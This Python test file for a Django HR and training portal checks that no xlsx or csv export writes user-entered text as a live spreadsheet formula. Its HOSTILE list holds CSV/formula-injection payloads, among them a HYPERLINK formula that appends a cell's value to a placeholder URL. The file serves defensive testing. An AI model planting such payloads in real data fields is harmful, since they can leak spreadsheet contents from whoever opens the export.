"""No value a user typed comes out of an export as a live formula (issue 14).

Formula-looking text is stored in names, titles and notes; then every export the URL map has
(found by walking the resolver, so a new one fails here until it is listed) is downloaded, and
its cells are read back: 0 formula cells, and the hostile text is there, as text.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
import zipfile

import openpyxl
import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse

from positions import importing
from positions.models import Competency, Employee, OrgUnit, Position
from talent import services as talent_services
from training.models import DevelopmentPlan, PlanItem, TrainingProgram

HOSTILE = ['=HYPERLINK("http://x"&B2,"Klik")', "+1", "-2+3", "@SUM(A1)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
YEAR = 2026


def _walk(patterns, prefix: str = "", namespace: str | None = None):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(
                pattern.url_patterns, prefix + str(pattern.pattern), pattern.namespace or namespace
            )
        else:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield prefix + str(pattern.pattern), name, pattern.callback


def export_url_names() -> set[str]:
    """Views whose route or code speaks of xlsx/csv/workbooks: the spreadsheets the portal
    writes."""
    found = set()
    for route, name, callback in _walk(get_resolver().url_patterns):
        try:
            source = inspect.getsource(inspect.unwrap(callback))
        except (OSError, TypeError):
            source = ""
        if re.search(r"xlsx|csv|openpyxl|workbook", route + source, re.IGNORECASE):
            found.add(name)
    return found


@pytest.fixture
def hostile_data(world, hr_admin, django_capture_on_commit_callbacks):
    """Formula-looking text in every kind of user data an export writes."""
    names = iter(HOSTILE * 3)
    for employee in Employee.objects.all():
        employee.name = next(names)
        employee.birth_place = next(names)
        employee.save(update_fields=["name", "birth_place"])
    OrgUnit.objects.filter(pk=world.yankes.pk).update(name=HOSTILE[0])
    Position.objects.filter(pk=world.perawat.pk).update(name=HOSTILE[1])
    Competency.objects.update_or_create(code="M.1", defaults={"name": HOSTILE[3]})
    program = TrainingProgram.objects.create(
        code="P1", name=HOSTILE[0], category="teknis", method="klasikal", jp=24
    )
    plan = DevelopmentPlan.objects.create(unit=world.dinkes, year=YEAR + 1)
    PlanItem.objects.create(
        plan=plan, employee=world.employee_emp, program=program, reason=HOSTILE[2]
    )
    cells = {"nip": HOSTILE[0], "name": HOSTILE[1], "birth_place": HOSTILE[2]}
    batch = importing.create_batch(
        filename="pegawai.xlsx", raw_rows=[{"row": 2, "cells": cells}], user=hr_admin
    )
    with django_capture_on_commit_callbacks(execute=True):  # the talent grid's calculation
        talent_services.start_run(world.pemprov, year=YEAR, started_by=hr_admin)
    return {"plan": plan, "batch": batch}


def export_urls(world, hostile_data) -> dict[str, str]:
    unit = f"?unit={world.dinkes.pk}&tahun={YEAR}"
    return {
        "positions:employee_export": reverse("positions:employee_export"),
        "positions:import_template": reverse("positions:import_template"),
        "positions:import_preview": reverse(
            "positions:import_preview", args=[hostile_data["batch"].pk]
        )
        + "?galat=1",
        "positions:peta_jabatan_xlsx": reverse(
            "positions:peta_jabatan_xlsx", args=[world.dinkes.pk]
        ),
        "training:compliance_xlsx": reverse("training:compliance_xlsx") + unit,
        "positions:duk_xlsx": reverse("positions:duk_xlsx") + f"?unit={world.dinkes.pk}",
        "positions:nominatif_xlsx": reverse("positions:nominatif_xlsx")
        + f"?unit={world.dinkes.pk}",
        "talent:grid_xlsx": reverse("talent:grid_xlsx") + f"?unit={world.pemprov.pk}",
        "training:plan_export": reverse("training:plan_export", args=[hostile_data["plan"].pk]),
        "training:assessment_import": reverse("training:assessment_import") + "?templat=1",
        "performance:history_import": reverse("performance:history_import") + "?templat=1",
    }


# The history template holds no user data: nothing hostile can show up in it.
WITHOUT_USER_DATA = {"performance:history_import"}


def live_cells(content: bytes) -> tuple[list[str], set[str]]:
    """(formula cells, hostile values found as text) of an xlsx or a csv."""
    formulas, seen = [], set()
    if content.startswith(b"PK"):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
                    elif isinstance(cell.value, str):
                        seen |= {h for h in HOSTILE if h in cell.value}
        with zipfile.ZipFile(io.BytesIO(content)) as archive:  # the raw XML too
            for name in archive.namelist():
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                    formulas.append(f"{name} has an <f> element")
    else:
        text = content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text), delimiter=";"):
            for value in row:
                if value.startswith(FORMULA_START):
                    formulas.append(value)
                seen |= {h for h in HOSTILE if h in value}
    return formulas, seen


def test_the_export_list_matches_the_url_map(world, hostile_data):
    assert export_url_names() == set(export_urls(world, hostile_data))


def test_no_export_writes_a_live_formula(world, hr_admin, hostile_data):
    client = Client()
    client.force_login(hr_admin)
    urls = export_urls(world, hostile_data)
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content) if response.streaming else response.content
        formulas, seen = live_cells(content)
        assert formulas == [], (name, formulas[:5])
        if name not in WITHOUT_USER_DATA:
            assert seen, f"{name}: none of the hostile values was exported, the test saw nothing"
